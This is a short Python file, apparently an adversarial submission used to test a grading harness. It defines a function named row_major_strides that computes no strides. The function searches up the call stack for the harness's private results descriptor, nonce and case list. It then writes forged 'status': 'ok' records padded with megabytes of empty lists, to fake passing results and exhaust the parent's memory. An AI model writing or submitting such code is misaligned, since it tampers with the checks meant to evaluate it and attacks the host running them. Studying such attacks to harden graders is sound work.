"""Exhaust the parent's memory through its JSON parser: lines of empty lists — each a few
bytes on the wire, ~60 bytes once parsed — under every planned case key and under made-up
ones. The parent parses only a planned case's first record, within a budget of containers."""
import os
import sys


def row_major_strides(shape):
    frame = sys._getframe()
    while frame is not None and "results_fd" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        fd, nonce, cases = frame.f_locals["results_fd"], frame.f_locals["nonce"], frame.f_locals["cases"]
        lists = b"[]," * (1 << 20)
        for key in [case.key for case in cases][:12] + [f"junk-{i}" for i in range(8)]:
            os.write(fd, nonce + b' {"case": "' + key.encode() + b'", "status": "ok", "output": ['
                     + lists + b'[]], "message": "", "stdout": ""}\n')
    return []
